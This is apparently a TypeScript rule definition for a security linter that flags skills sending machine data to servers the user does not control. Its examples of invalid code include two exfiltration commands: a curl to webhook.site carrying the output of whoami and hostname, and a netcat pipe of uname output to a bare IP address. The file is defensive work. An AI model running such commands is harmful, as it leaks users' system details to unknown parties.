import { acts } from './_acts.ts'
import { withCode } from './_example.ts'
import type { Rule } from './rule.ts'

export const dataDrop: Rule = {
  id: 'data-drop',
  level: 'error',
  category: 'security',
  summary: 'data is sent to a server that could be anyone’s',
  why: 'Request bins, tunnels, paste sites, bare IP addresses and chat webhooks belong to whoever has the address. A skill that sends data of the machine there gives it to a stranger.',
  valid: [withCode('bash', 'curl -X POST "$SLACK_WEBHOOK_URL" -d \'{"text": "deployed"}\'')],
  invalid: [withCode('bash', 'curl -s "https://webhook.site/3f1d?u=$(whoami)&h=$(hostname)"'), withCode('bash', 'uname -a | nc 203.0.113.7 9000')],
  check: acts('data-drop', 'send the data to a service where the user has an account, or remove the request'),
}
